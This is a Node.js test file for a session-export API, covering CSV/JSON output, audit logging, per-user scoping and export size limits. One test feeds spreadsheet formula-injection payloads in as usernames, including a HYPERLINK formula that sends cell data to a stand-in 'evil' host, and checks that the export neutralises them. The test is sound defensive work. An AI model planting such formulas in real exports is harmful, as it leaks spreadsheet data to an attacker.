// Files of a list: all that match or a refusal, safe in a spreadsheet, and in
// the access log. Lists go on where a request stopped looking.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { sqlite, sqliteChange, startServer } from './lib/procs.mjs';
import { Layer1, Layer2, metricBody } from './lib/wire.mjs';
import { Person, addUser } from './lib/people.mjs';

const cleanups = [];
const file = { after: (fn) => cleanups.push(fn) };
let server;
let ana;

before(async () => {
  server = await startServer(file);
  await addUser(server.data, 'ana', 'admin,reviewer');
  ana = await Person.login(server.url, 'ana');
});
after(async () => {
  for (const fn of cleanups.reverse()) await fn();
});

/** RFC 4180 by the letter: quotation marks, doubled ones, CRLF. */
function parseCsv(text) {
  const rows = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const m = cell.exec(text);
    assert.ok(m, `no cell at ${at}: ${text.slice(at, at + 40)}`);
    rows.at(-1).push(m[1] === undefined ? m[2] : m[1].replaceAll('""', '"'));
    if (m[3] === '\r\n') rows.push([]);
  }
  assert.deepEqual(rows.pop(), []);
  const [names, ...cells] = rows;
  for (const row of cells) assert.equal(row.length, names.length);
  return cells.map((row) => Object.fromEntries(names.map((name, i) => [name, row[i]])));
}

const audits = async () => sqlite(join(server.data, 'worksight.db'), "SELECT actor, object, detail FROM audit WHERE action='sessions.export' ORDER BY id");

test('csv: the rows of the filter, newest first, as the list says them', async () => {
  const one = await Layer2.open(server.url, { extra: { hostname: 'csv-1', username: 'zoë' } });
  await one.batch([Layer2.item(2, 'metric', metricBody({ agent_timestamp: new Date().toISOString() }))]);
  const two = await Layer1.open(server.url, { hostname: 'csv-2', username: 'a "quoted", name\r\nof two lines' });
  await Layer1.open(server.url, { hostname: 'other' });
  const answer = await ana.ask('/api/v1/sessions.csv?q=csv-');
  assert.equal(answer.status, 200, answer.text);
  assert.equal(answer.headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
  assert.equal(answer.headers.get('content-disposition'), 'attachment; filename="sessions.csv"');
  assert.equal(answer.headers.get('cache-control'), 'private, no-store');
  const rows = parseCsv(answer.text);
  const list = await ana.all('/api/v1/sessions?q=csv-');
  assert.deepEqual(rows.map((r) => Number(r.id)), [two.id, one.id]);
  assert.deepEqual(rows.map((r) => [r.username, r.hostname, r.status, r.metrics_24h, r.started_at, r.layer]), list.map((s) => [s.username, s.hostname, s.status, String(s.metrics_24h), s.started_at, String(s.layer)]));
  assert.equal(rows[1].username, 'zoë');
  assert.equal(rows[0].person, '');
});

test('csv: what a spreadsheet would compute is text', async () => {
  const evil = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1'];
  for (const username of evil) await Layer1.open(server.url, { hostname: 'evil-host', username });
  const answer = await ana.ask('/api/v1/sessions.csv?q=evil-host');
  const got = parseCsv(answer.text).map((r) => r.username).reverse();
  assert.deepEqual(got, evil.map((text) => `'${text}`));
});

test('json: the same sessions, and the filter is checked as the list checks it', async () => {
  const answer = await ana.ask('/api/v1/sessions.json?q=csv-&status=offline');
  assert.equal(answer.headers.get('content-disposition'), 'attachment; filename="sessions.json"');
  assert.deepEqual(answer.json.items, await ana.all('/api/v1/sessions?q=csv-&status=offline'));
  assert.ok(answer.json.items.length >= 2);
  for (const query of ['status=gone', 'attention=maybe', 'cursor=x', 'limit=5', `q=${'x'.repeat(300)}`])
    assert.equal((await ana.ask(`/api/v1/sessions.json?${query}`)).status, 400, query);
});

test('an export is in the access log, a refused one is not', async () => {
  const before = (await audits()).length;
  await ana.ask('/api/v1/sessions.csv?q=csv-2&attention=false');
  await ana.ask('/api/v1/sessions.csv?status=gone');
  const rows = (await audits()).slice(before);
  assert.deepEqual(rows, [{ actor: 'ana', object: 'sessions:csv', detail: 'rows:1 status:any attention:any q:csv-2' }]);
});

test('a person exports the own sessions alone', async () => {
  await addUser(server.data, 'pia', 'person');
  const pia = await Person.login(server.url, 'pia');
  assert.deepEqual((await pia.ask('/api/v1/sessions.json')).json.items, []);
});

/** Sessions beside those that agents made, with ids above theirs. */
const addMany = (from, count) =>
  sqliteChange(
    join(server.data, 'worksight.db'),
    `WITH RECURSIVE n(i) AS (SELECT ${from} UNION ALL SELECT i+1 FROM n WHERE i<${from + count - 1})
     INSERT INTO session (id, agent_name, agent_version, hostname, username, ip_address, peer, started_at, created_at, payload)
     SELECT i, 'many', '1', 'many', 'many', '10.0.0.1', '10.0.0.1', 1, 1, x'' FROM n`,
  );

test('a list goes on past what one request looks at; too large an export is refused', async () => {
  const { id } = await Layer1.open(server.url, { hostname: 'below-the-many' });
  await addMany(1_000_000_000, 4500);
  const first = await ana.get('/api/v1/sessions?q=below-the-many');
  assert.deepEqual(first.items, []);
  assert.ok(first.next_cursor);
  assert.deepEqual((await ana.all('/api/v1/sessions?q=below-the-many', { limit: 50 })).map((s) => s.id), [id]);
  assert.deepEqual((await ana.ask('/api/v1/sessions.json?q=below-the-many')).json.items.map((s) => s.id), [id]);
  await addMany(1_000_010_000, 16000);
  const before = (await audits()).length;
  const refused = await ana.ask('/api/v1/sessions.csv?q=below-the-many');
  assert.equal(refused.status, 422);
  assert.match(refused.json.type, /\/export-too-large$/);
  assert.equal((await audits()).length, before);
});
